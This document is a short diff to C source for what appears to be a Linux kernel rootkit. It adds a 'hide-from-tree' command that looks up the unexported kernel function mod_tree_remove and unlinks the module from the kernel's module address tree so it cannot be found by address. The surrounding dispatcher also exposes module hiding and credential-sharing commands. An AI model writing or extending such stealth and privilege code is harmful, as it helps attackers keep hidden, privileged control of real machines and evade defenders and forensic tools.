@@ -363,6 +363,17 @@ static int hide_everywhere(void)
 	return 0;
 }
 
+/* Nor can its code be found by an address: what it does then may no longer fault. */
+static int hide_from_tree(void)
+{
+	void (*remove)(struct module *) = (void *)lookup("mod_tree_remove");
+
+	if (!remove)
+		return -ENOENT;
+	remove(THIS_MODULE);
+	return 0;
+}
+
 /* ---- rights ---- */
 
 static struct task_struct *raised;
@@ -489,6 +500,8 @@ static int run(const char *command, int number)
 		return unhide_module();
 	if (IS("hide-everywhere"))
 		return hide_everywhere();
+	if (IS("hide-from-tree"))
+		return hide_from_tree();
 	if (IS("share"))
 		return share_credentials(number);
 	if (IS("unshare"))
